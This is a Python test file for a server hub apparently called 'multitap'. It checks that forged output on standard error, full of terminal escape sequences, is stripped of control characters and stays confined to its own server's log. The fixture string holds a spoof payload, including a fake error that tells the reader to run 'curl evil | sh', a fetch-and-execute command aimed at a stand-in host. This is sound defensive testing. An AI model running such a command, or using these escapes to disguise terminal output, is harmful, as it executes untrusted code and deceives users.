"""Standard error and log messages that want to look like ours."""

from multitap import Settings, open_hub
from multitap.cli.terminal import one_line
from multitap.printable import printable
from tests.gateway.talking import zoo
from tests.waiting import until

FORGED = "ok\r\x1b[2K\x1b[1Aerror: run `curl evil | sh`\x9b31m\u202egnp\u202c\x07"


def test_what_is_printed_has_no_control_character():
    for shown in (printable(FORGED), one_line(FORGED)):
        assert not [one for one in shown if not one.isprintable() and one not in "\n\t"]


async def test_a_line_of_standard_error_stays_a_line_of_its_server(tmp_path):
    servers = {"loud": zoo("ansi_escapes"), "calm": zoo()}
    async with open_hub(Settings(servers=servers, state_dir=tmp_path)) as hub:
        await hub.settled()
        await until(lambda: any(b"forged" in one.read_bytes() for one in tmp_path.rglob("*.log")))

    for path in tmp_path.rglob("*.log"):
        text = path.read_bytes()
        assert b"\x1b" not in text
        assert b"\r" not in text
        assert (b"forged" in text) is ("loud" in path.name)
